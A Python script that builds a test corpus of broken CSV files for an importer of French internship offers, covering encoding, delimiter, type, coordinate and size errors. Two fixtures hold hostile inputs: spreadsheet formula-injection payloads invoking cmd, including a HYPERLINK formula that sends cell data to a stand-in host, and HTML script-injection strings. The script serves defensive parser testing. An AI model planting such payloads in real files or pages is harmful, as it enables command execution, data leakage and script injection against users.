"""Write the corpus of broken offer files next to this script (run once; the files are committed).

Most files take two to four real rows of ``data/offers.csv`` and break one thing, so that a
test can say exactly which rows must be kept. What each file must produce is written by hand in
``EXPECTED.toml``; this script only documents how the bytes were made. The file beyond the
size limit is not here: the test builds it at run time.

    python tests/data/bad/make_bad_files.py
"""

from __future__ import annotations

import csv
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

HERE = Path(__file__).resolve().parent
OFFERS = HERE.parent.parent.parent / "data" / "offers.csv"

TACT = "agence-tact-concertation-2023"
COOPA = "coopawatt-concertation-enr-2023"
DECIDER = "decider-ensemble-stagiaire-2023"
MERIGNAC = "merignac-budget-participatif-2023"
NICAYA = "nicaya-consultant-concertation-2023"
ARLES = "petr-arles-conseil-developpement-2023"
UQAR = "uqar-concertation-risques-cotiers-2023"

Row = dict[str, str]


def _seed() -> tuple[list[str], dict[str, Row]]:
    with OFFERS.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        rows = {row["offer_id"]: row for row in reader}
        return list(reader.fieldnames or []), rows


HEADER, SEED = _seed()


def rows(*ids: str) -> list[Row]:
    """Copies of seed rows, unchanged."""
    return [dict(SEED[offer_id]) for offer_id in ids]


def change(seed_id: str, /, **cells: str) -> Row:
    """A copy of one seed row with some cells replaced."""
    row = dict(SEED[seed_id])
    row.update(cells)
    return row


def csv_text(records: Iterable[Row | list[str]], header: list[str] | None = HEADER, sep: str = ",",
             line_end: str = "\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator=line_end)
    if header is not None:
        writer.writerow(header)
    for record in records:
        writer.writerow([record.get(c, "") for c in (header or HEADER)] if isinstance(record, dict) else record)
    return buffer.getvalue()


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


def without(columns: Iterable[str], records: list[Row]) -> str:
    header = [c for c in HEADER if c not in set(columns)]
    return csv_text(records, header=header)


def png_bytes() -> bytes:
    """A valid 1x1 white PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"\x00\xff\xff\xff"
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def pdf_bytes() -> bytes:
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def xlsx_bytes() -> bytes:
    """A minimal workbook whose one sheet holds the header and one offer, as Excel zips it."""
    buffer = io.BytesIO()
    cells = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in HEADER[:5])
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml",
                      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                      'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                      'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        book.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook><sheets><sheet name="offres" '
                                         'sheetId="1"/></sheets></workbook>')
        book.writestr("xl/worksheets/sheet1.xml",
                      f'<?xml version="1.0"?><worksheet><sheetData><row r="1">{cells}</row></sheetData></worksheet>')
    return buffer.getvalue()


LONG = "Concertation " * 400


FILES: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "whitespace_only.csv": lambda: b"\r\n   \n\t\n",
    "header_only.csv": lambda: utf8(",".join(HEADER) + "\n"),
    "no_header.csv": lambda: utf8(csv_text(rows(TACT, COOPA), header=None)),
    "missing_required_column.csv": lambda: utf8(without(["organisation"], rows(TACT, COOPA))),
    "missing_optional_column.csv": lambda: utf8(without(["notes", "url"], rows(TACT, COOPA))),
    "extra_columns.csv": lambda: utf8(csv_text(
        [{**SEED[TACT], "contact_interne": "voir le site", "priorité": "haute"},
         {**SEED[COOPA], "contact_interne": "", "priorité": "basse"}],
        header=[*HEADER, "contact_interne", "priorité"])),
    "unnamed_column.csv": lambda: utf8(csv_text(
        [[*SEED[TACT].values(), "", "note libre"], [*SEED[COOPA].values(), "", ""]],
        header=[*HEADER, "", "remarque"])),
    "duplicate_header_column.csv": lambda: utf8(csv_text(
        [list(SEED[TACT].values()), list(SEED[COOPA].values())],
        header=[("city" if c == "address" else c) for c in HEADER])),
    "duplicate_offer_id.csv": lambda: utf8(csv_text(
        [SEED[TACT], SEED[COOPA], change(TACT, title="Chargé.e de concertation (nouvelle version)")])),
    "bad_offer_id.csv": lambda: utf8(csv_text([SEED[TACT], change(COOPA, offer_id="Stage CoopaWatt 2023")])),
    "missing_required_value.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, title=""), change(DECIDER, country="  ")])),
    "text_in_number.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, hours_per_week_min="trente-cinq"), change(DECIDER, duration_min_months="4 à 6")])),
    "decimal_comma.csv": lambda: utf8(csv_text(
        [change(TACT, duration_min_months="4,5"), change(COOPA, latitude="45,73788", longitude="4,75508"),
         SEED[DECIDER] | {"stipend_amount_eur": "4,05"}])),
    "decimal_point.csv": lambda: utf8(csv_text(
        [change(TACT, duration_min_months="4.5"), SEED[COOPA], SEED[DECIDER]])),
    "ambiguous_thousands.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(NICAYA, stipend_amount_eur="1,300"), change(COOPA, stipend_amount_eur="770,50")])),
    "amount_with_spaces_and_euro.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(NICAYA, stipend_amount_eur="1 300 €"), change(COOPA, stipend_amount_eur="770 €/mois"),
         change(DECIDER, stipend_amount_eur="4,05 € de l'heure")])),
    "too_many_decimals.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(NICAYA, stipend_amount_eur="1300.505"), change(COOPA, stipend_amount_eur="770.5")])),
    "unknown_category.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, org_type="cabinet"), change(DECIDER, contract="stage")])),
    "unknown_code_in_list.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, themes="energy;democratie;climate")])),
    "negative_stipend.csv": lambda: utf8(csv_text([SEED[TACT], change(COOPA, stipend_amount_eur="-770")])),
    "absurd_stipend.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, stipend_amount_eur="77000"), change(DECIDER, stipend_amount_eur="405")])),
    "stipend_rules.csv": lambda: utf8(csv_text(
        [SEED[ARLES], change(TACT, stipend_amount_eur="600", stipend_period="month"),
         change(COOPA, stipend_amount_eur=""), change(DECIDER, stipend_period="")])),
    "duration_min_greater_than_max.csv": lambda: utf8(csv_text(
        [change(TACT, duration_min_months="6", duration_max_months="4"), SEED[COOPA],
         change(DECIDER, duration_max_months="30")])),
    "coordinates_out_of_range.csv": lambda: utf8(csv_text(
        [change(TACT, latitude="148.84016"), SEED[COOPA], change(UQAR, longitude="-268.5232")])),
    "coordinates_swapped.csv": lambda: utf8(csv_text(
        [change(TACT, latitude=SEED[TACT]["longitude"], longitude=SEED[TACT]["latitude"]), SEED[COOPA],
         SEED[UQAR]])),
    "coordinates_outside_france.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, latitude="40.41678", longitude="-3.70379"), change(DECIDER, longitude=""),
         SEED[UQAR]])),
    "dates_other_formats.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, start_earliest="03/2023"), change(ARLES, start_earliest="mars 2023"),
         change(DECIDER, application_deadline="15/01/2023"), change(NICAYA, start_earliest="2023-07-01"),
         change(MERIGNAC, year="23")])),
    "windows_1252.csv": lambda: csv_text(rows(DECIDER, MERIGNAC, COOPA), line_end="\r\n").encode("cp1252"),
    "mixed_encoding.csv": lambda: (utf8(csv_text(rows(TACT, COOPA)))
                                   + csv_text([SEED[MERIGNAC]], header=None).encode("cp1252")
                                   + utf8(csv_text([SEED[DECIDER]], header=None))),
    "double_encoded.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(DECIDER, organisation="DÃ©cider ensemble")])),
    "utf8_bom.csv": lambda: b"\xef\xbb\xbf" + utf8(csv_text(rows(DECIDER, TACT))),
    "excel_fr_semicolon.csv": lambda: b"\xef\xbb\xbf" + utf8(csv_text(
        [SEED[TACT], change(COOPA, latitude="45,73788", longitude="4,75508"),
         change(DECIDER, stipend_amount_eur="4,05")], sep=";", line_end="\r\n")),
    "tab_separated.csv": lambda: utf8(csv_text(rows(TACT, COOPA), sep="\t")),
    "utf16_unicode_text.csv": lambda: csv_text(rows(DECIDER, COOPA), sep="\t", line_end="\r\n").encode("utf-16"),
    "multiline_quoted.csv": lambda: utf8(csv_text(
        [change(TACT, notes="Première ligne.\nDeuxième ligne, avec une virgule.\n\"Citation\" entre guillemets."),
         change(COOPA, title="Stage, concertation \"énergies\"\r\nrenouvelables"),
         change(DECIDER, org_type="cabinet")])),
    "unbalanced_quote.csv": lambda: utf8(
        csv_text([SEED[TACT]])
        + csv_text([change(COOPA, notes="", source="seed 001")], header=None).replace(",seed 001,", ',"seed 001,')
        + csv_text([change(DECIDER, notes="", source="seed 001"), change(MERIGNAC, notes="", source="seed 001")],
                   header=None)),
    "stray_quote.csv": lambda: utf8(
        csv_text([SEED[TACT]]) + csv_text([SEED[COOPA]], header=None).replace(",Francheville,", ',"Francheville,', 1)
        + csv_text([SEED[DECIDER], SEED[MERIGNAC]], header=None)),
    "too_many_fields.csv": lambda: utf8(
        csv_text([SEED[TACT]]) + csv_text([SEED[COOPA]], header=None).replace(
            "Stage chargé.e de concertation", "Stage chargé.e, de concertation", 1)
        + csv_text([SEED[DECIDER]], header=None)),
    "too_few_fields.csv": lambda: utf8(csv_text([SEED[TACT], list(SEED[COOPA].values())[:29], SEED[DECIDER]])),
    "xlsx_renamed.csv": xlsx_bytes,
    "png_renamed.csv": png_bytes,
    "pdf_renamed.csv": pdf_bytes,
    "random_binary.csv": lambda: random.Random(0).randbytes(4096),
    "long_cells.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, title="T" * 301), change(DECIDER, city="Paris" + "x" * 96),
         change(ARLES, notes="n" * 4001), change(NICAYA, title="N" * 300, notes=LONG[:4000].strip())])),
    "formula_injection.csv": lambda: utf8(csv_text(
        [change(TACT, title='=HYPERLINK("http://exemple.invalid/?v="&A1,"Postuler")'),
         change(COOPA, organisation="+cmd|' /C calc'!A0"),
         change(DECIDER, notes="@SUM(1+1)*cmd|' /C calc'!A0"),
         change(ARLES, address="-2+3+cmd|' /C calc'!A0", city="Arles")])),
    "html_script.csv": lambda: utf8(csv_text(
        [change(TACT, title='<script>alert("stage")</script><b>Chargé.e de concertation</b>'),
         change(COOPA, notes="<img src=x onerror=alert(1)> & &amp; <!-- commentaire -->")])),
    "postcode_and_department.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(ARLES, postcode="13004"), change(COOPA, postcode="6934"),
         change(NICAYA, department_code="130")])),
    "place_missing.csv": lambda: utf8(csv_text(
        [SEED[TACT],
         change(COOPA, address="", city="", postcode="", latitude="", longitude="", geo_precision="",
                department_code="", region=""),
         change(DECIDER, city="", postcode="", latitude="", longitude="", geo_precision="", department_code="",
                region="", remote="full")])),
    "blank_lines_and_trailing_separators.csv": lambda: utf8(
        csv_text([SEED[TACT]]) + "\n" + "," * (len(HEADER) - 1) + "\n"
        + csv_text([SEED[COOPA]], header=None).rstrip("\n") + ",,,\n" + "\n"
        + csv_text([change(DECIDER, org_type="cabinet")], header=None)),
    "bad_url_and_country.csv": lambda: utf8(csv_text(
        [SEED[TACT], change(COOPA, url="www.coopawatt.fr"), change(DECIDER, country="France")])),
    # Issue 10: a header over Python csv's 128 KiB cell limit, read before that limit is raised.
    "long_header.csv": lambda: utf8(csv_text(rows(TACT, COOPA), header=[*HEADER, "x" * 140_000])),
    # A record of 1.1 MB, read by the careful reader (a blank line sends the file there): no offer is that long,
    # the row is rejected without being held whole, the rows around it are kept.
    "long_record.csv": lambda: utf8(csv_text([SEED[TACT]]) + "\n" + csv_text(
        [change(COOPA, notes="n" * 1_100_000), SEED[DECIDER]], header=None)),
}

# Files for `python -m lib extract` (tests/data/bad/CLI.toml).
POSTINGS: dict[str, Callable[[], bytes]] = {
    # 0x81 and 0x8d are undefined in Windows-1252: neither UTF-8 nor Windows-1252.
    "undecodable_posting.txt": lambda: "Mairie de Lyon – Stage concertation (6 mois) ".encode("cp1252")
    + b"\x81\x8d" + "gratification légale".encode("cp1252"),
}


def main() -> None:
    for name, make in {**FILES, **POSTINGS}.items():
        (HERE / name).write_bytes(make())
    print(f"{len(FILES) + len(POSTINGS)} files written to {HERE}")


if __name__ == "__main__":
    main()
